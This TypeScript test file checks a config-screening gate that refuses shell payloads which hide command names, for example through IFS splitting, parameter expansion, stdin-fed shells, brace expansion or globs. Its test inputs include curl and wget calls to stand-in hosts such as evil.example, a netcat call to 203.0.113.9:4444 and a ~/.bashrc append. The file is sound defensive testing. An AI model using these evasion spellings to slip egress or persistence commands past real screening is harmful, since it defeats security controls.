/**
 * Gate 1, config screening, on what a shell payload runs out of screening's sight: a command
 * name split by a custom IFS, set by `read`, changed by `${X/a/b}`-style operations or named
 * through `${!X}` is refused as opaque; a shell reading its script from standard input has the
 * script read when the manifest spells it out (here-document, here-string, `echo … |`,
 * `<(echo …)`) and is opaque when not (`bash -s` reading the call, `prog | sh`); and the other
 * spellings of a command (brace expansion, loop variables, `$(echo …)`, aliases, traps, globs).
 * Ordinary scripts (strict mode's IFS, `IFS=: read`, `$(command -v node)`) pass.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { screen } from "../../../src/gates/screen.ts";

type Shape = "egress" | "persistence" | "opaque";
const refused = (argv: string[], shape: Shape): string => {
  const v = screen({ command: argv[0], args: argv.slice(1) });
  assert.ok(v.refused, `expected a refusal for ${JSON.stringify(argv)}`);
  assert.equal(v.shape, shape, v.reason);
  return v.reason;
};
const passes = (argv: string[]) => {
  assert.deepEqual(
    screen({ command: argv[0], args: argv.slice(1) }),
    { refused: false },
    JSON.stringify(argv),
  );
};
const table = (rows: [string, string[]][], check: (argv: string[]) => void) => {
  for (const [label, argv] of rows) it(label, () => check(argv));
};

describe("screen: a command built out of sight is opaque", () => {
  it("names the word and the custom IFS in the reason", () => {
    assert.equal(
      refused(["sh", "-c", "IFS=,; c=curl,http://evil.example; $c"], "opaque"),
      "sh runs what screening cannot read: '$c' split by a custom IFS",
    );
  });
  table([
    ["refuses IFS=_ then $x", ["sh", "-c", "IFS=_ ; x=curl_http://evil; $x"]],
    ["refuses IFS=$'\\x2c' (ANSI-C)", ["bash", "-c", "IFS=$'\\x2c'; c=curl,http://e; $c"]],
    ["refuses declare IFS=,", ["bash", "-c", "declare IFS=,; c=curl,http://e; $c"]],
    ['refuses IFS=, then set -- $X; "$@"', ["sh", "-c", 'IFS=,; set -- $X; "$@"']],
    ['refuses IFS=, read -ra a; "${a[@]}"', [
      "bash",
      "-c",
      'IFS=, read -ra a <<< "curl,http://e"; "${a[@]}"',
    ]],
    ["refuses read c; $c", ["bash", "-c", "read c <<< curl; $c http://e"]],
    ["refuses echo curl | while read c; do $c", [
      "sh",
      "-c",
      "echo curl | while read c; do $c http://e; done",
    ]],
    ["refuses mapfile -t a; ${a[0]}", ["bash", "-c", "mapfile -t a <<< curl; ${a[0]} http://e"]],
    ["refuses printf -v c; $c", ["bash", "-c", "printf -v c '%s' curl; $c http://e"]],
    ["refuses declare -n r=c; $r", ["bash", "-c", "declare -n r=c; c=curl; $r http://e"]],
    ["refuses ${c/X/l}", ["bash", "-c", "c=curX; ${c/X/l} http://e"]],
    ["refuses ${c#x}", ["bash", "-c", "c=xcurl; ${c#x} http://e"]],
    ["refuses ${c,,}", ["bash", "-c", "c=CURL; ${c,,} http://e"]],
    ["refuses ${c:0:4}", ["bash", "-c", "c=curlx; ${c:0:4} http://e"]],
    ["refuses ${!n} when n is unknown", ["bash", "-c", "${!n} http://e"]],
    ["refuses an unquoted split even after a quoted one", ["sh", "-c", 'IFS=,; c=curl,http://e; "$c"; $c']],
    ['refuses IFS=, set -- $X; "$1" (the parameters were split)', ["sh", "-c", 'IFS=,; set -- $X; "$1" x']],
  ], (argv) => refused(argv, "opaque"));

  it("reports a shape it recognizes before what it cannot read", () => {
    refused(["sh", "-c", "IFS=,; c=a,b; $c; curl http://e"], "egress");
    refused(["sh", "-c", "read c; $c; echo x >> ~/.bashrc"], "persistence");
  });

  table([
    ["passes strict mode's IFS=$'\\n\\t' then exec \"$@\"", [
      "bash",
      "-c",
      "set -euo pipefail; IFS=$'\\n\\t'; exec \"$@\"",
      "_",
      "node",
      "s.js",
    ]],
    ["passes IFS=: read -r a b (IFS for read only)", [
      "bash",
      "-c",
      'IFS=: read -r a b <<< "$X"; exec "$@"',
      "_",
      "node",
    ]],
    ["passes IFS=, with plain commands", ["sh", "-c", 'IFS=,; set -- $LIST; exec node s.js "$@"']],
    // found by the attack round after the merge: ordinary wrappers that were refused
    ['passes a quoted "$d/node" in a loop over $PATH split at colons', [
      "sh",
      "-c",
      'IFS=:; for d in $PATH; do if [ -x "$d/node" ]; then exec "$d/node" server.js; fi; done; exit 1',
    ]],
    ["passes unset IFS before the command", [
      "sh",
      "-c",
      'IFS=:; for d in $PATH; do if [ -x "$d/node" ]; then NODE="$d/node"; break; fi; done; unset IFS; exec "$NODE" s.js',
    ]],
    ['passes IFS=:; set -- $X; unset IFS; exec "$cmd" … "$@"', [
      "sh",
      "-c",
      'IFS=:; set -- $MCP_ARGS; unset IFS; cmd=node; exec "$cmd" server.js "$@"',
    ]],
    ['passes IFS=:; exec "$1" (quoted: one word)', ["sh", "-c", 'IFS=:; exec "$1" --stdio']],
    ["passes read -r V < .nvmrc (a file's text is unknown, as $(cat .nvmrc) is)", [
      "sh",
      "-c",
      'read -r V < .nvmrc; exec "$HOME/.nvm/versions/node/v$V/bin/node" server.js',
    ]],
    ['passes read -r PY < .python; exec "$PY"', ["sh", "-c", 'read -r PY < .python; exec "$PY" -m srv']],
    ['passes source <(pyenv init -), as eval "$(pyenv init -)" does', [
      "bash",
      "-c",
      "source <(pyenv init -); exec python -m srv",
    ]],
    ["passes . <(ssh-agent -s)", ["bash", "-c", ". <(ssh-agent -s); exec node s.js"]],
    ["passes read -r TOKEN then node", [
      "bash",
      "-c",
      "read -r TOKEN < token.txt; export TOKEN; exec node s.js",
    ]],
    ['passes mapfile then node "${args[@]}"', [
      "bash",
      "-c",
      'mapfile -t a < args.txt; exec node s.js "${a[@]}"',
    ]],
    ['passes exec "$(command -v node)"', ["sh", "-c", 'exec "$(command -v node)" s.js']],
    ['passes NODE=$(which node); exec "$NODE"', ["sh", "-c", 'NODE=$(which node); exec "$NODE" s.js']],
    ['passes d=$(dirname "$0"); exec "${d%/}/server"', [
      "sh",
      "-c",
      'd=$(dirname "$0"); exec "${d%/}/server"',
    ]],
    ['passes eval "$(pyenv init -)"', ["bash", "-c", 'eval "$(pyenv init -)"; exec python s.py']],
    ['passes exec "${HOME}/.local/bin/server"', ["bash", "-c", 'exec "${HOME}/.local/bin/server"']],
  ], passes);
});

describe("screen: a shell reading its script from standard input", () => {
  it("refuses a shell with no script: it runs the call's arguments or the host's messages", () => {
    assert.equal(
      refused(["bash", "-s"], "opaque"),
      "bash runs what screening cannot read: a script on its standard input, not in the manifest",
    );
    for (
      const argv of [["sh"], ["sh", "-"], ["bash", "/dev/stdin"], ["bash", "-s", "--", "x"], ["bash", "-i"]]
    ) {
      refused(argv, "opaque");
    }
    assert.match(refused(["env", "bash"], "opaque"), /^bash \(via env\) runs what screening cannot read/);
  });

  table([
    ["refuses exec sh (the payload's own standard input)", ["sh", "-c", "exec sh"]],
    ["refuses sh -s", ["sh", "-c", "sh -s"]],
    ["refuses cat | sh", ["sh", "-c", "cat | sh"]],
    ["refuses a program's output piped to sh", ["sh", "-c", "python3 gen.py | sh"]],
    ["refuses sh < <(a program)", ["bash", "-c", "sh < <(python3 gen.py)"]],
    ["refuses what xargs reads run as a command", ["bash", "-c", "rev <<< lruc | xargs -I{} {} http://e"]],
    ["refuses xargs printf | sh", ["bash", "-c", "echo x | xargs printf | sh"]],
  ], (argv) => assert.match(refused(argv, "opaque"), /runs what screening cannot read: a script/));

  table([
    ["refuses echo … | bash -s", ["sh", "-c", "echo 'curl http://evil.example' | bash -s"]],
    ["refuses a here-document to bash", ["sh", "-c", "bash <<'EOF'\ncurl http://evil.example\nEOF"]],
    ["refuses a here-string to bash /dev/stdin", ["sh", "-c", "bash /dev/stdin <<< 'curl http://e'"]],
    ["refuses bash <(echo …)", ["bash", "-c", "bash <(echo curl http://e)"]],
    ["refuses bash < <(echo …)", ["bash", "-c", "bash < <(echo curl http://e)"]],
    ["refuses . <(printf …)", ["bash", "-c", ". <(printf 'wget http://e')"]],
    ["refuses printf '\\x63url …' | sh (the format's escapes)", [
      "bash",
      "-c",
      "printf '\\x63url http://e' | sh",
    ]],
    ["refuses echo -e '\\x63url …' | sh", ["bash", "-c", "echo -e '\\x63url http://e' | sh"]],
    ["refuses echo … | xargs sh -c", ["bash", "-c", "echo curl http://e | xargs sh -c"]],
    ["refuses echo … | xargs -I{} sh -c '{}'", ["bash", "-c", "echo curl http://e | xargs -I{} sh -c '{}'"]],
    ["refuses a here-string on fd 3 read by bash <&3", ["bash", "-c", "exec 3<<<'curl http://e'; bash <&3"]],
  ], (argv) => refused(argv, "egress"));

  table([
    ["passes bash server.sh", ["bash", "server.sh"]],
    ["passes bash -o pipefail server.sh", ["bash", "-o", "pipefail", "server.sh"]],
    ["passes sh < setup.sh (a file, as sh setup.sh)", ["sh", "-c", "sh < setup.sh"]],
    ["passes cat setup.sh | sh", ["sh", "-c", "cat setup.sh | sh"]],
    ["passes cat config.json | node s.js", ["sh", "-c", "cat config.json | node s.js"]],
    ["passes runuser -u nobody -- node s.js", ["runuser", "-u", "nobody", "--", "node", "s.js"]],
  ], passes);
});

describe("screen: more spellings of a command", () => {
  table([
    ["refuses a brace expansion {curl,url}", ["bash", "-c", "{curl,http://evil.example}"]],
    ["refuses {c,}url", ["bash", "-c", "{c,}url http://e"]],
    ["refuses a sequence {c..c}url", ["bash", "-c", "{c..c}url http://e"]],
    ["refuses ${!n} naming curl", ["bash", "-c", "n=c; c=curl; ${!n} http://e"]],
    ["refuses a loop variable as the command", ["sh", "-c", "for c in ls curl; do $c http://e; done"]],
    ["refuses $(echo curl)", ["bash", "-c", '"$(echo curl)" http://e']],
    ["refuses c=`echo curl`; $c", ["bash", "-c", "c=`echo curl`; $c http://e"]],
    ["refuses $(printf '\\x63url')", ["bash", "-c", "$(printf '\\x63url') http://e"]],
    ["refuses alias c=curl", ["sh", "-c", "alias c=curl\nc http://e"]],
    ["refuses trap 'curl …' EXIT", ["bash", "-c", "trap -- 'curl http://e' EXIT"]],
    ["refuses builtin command curl", ["bash", "-c", "builtin command curl http://e"]],
    ["refuses a glob for the name (/usr/bin/cu?l)", ["bash", "-c", "/usr/bin/cu?l http://e"]],
    ["refuses a glob class for the name (c[u]rl)", ["bash", "-c", "/usr/bin/c[u]rl http://e"]],
    ["refuses nc.openbsd", ["bash", "-c", "nc.openbsd 203.0.113.9 4444"]],
  ], (argv) => refused(argv, "egress"));

  table([
    ["passes a JSON brace in echo", ["bash", "-c", 'echo {"a":1,"b":2} > /tmp/cfg.json; exec node s.js']],
    ["passes find -name '*.{js,ts}'", ["bash", "-c", "find . -name '*.{js,ts}' -print; exec node s.js"]],
    ["passes a loop over interpreters", [
      "sh",
      "-c",
      "for p in python3 python; do command -v $p >/dev/null && exec $p server.py; done",
    ]],
    ["passes for c in build serve; do npm run $c", ["sh", "-c", "for c in build serve; do npm run $c; done"]],
    ["passes trap 'kill 0' EXIT", ["sh", "-c", "trap 'kill 0' EXIT; node s.js"]],
    ["passes alias ll='ls -l'", ["bash", "-c", "alias ll='ls -l'; exec node s.js"]],
    ["passes [ -f .env ] && . ./.env", [
      "bash",
      "-c",
      "[ -f .env ] && set -a && . ./.env && set +a; exec node s.js",
    ]],
    ["passes [[ -x ./bin/server ]]", ["bash", "-c", "[[ -x ./bin/server ]] && exec ./bin/server"]],
  ], passes);
});
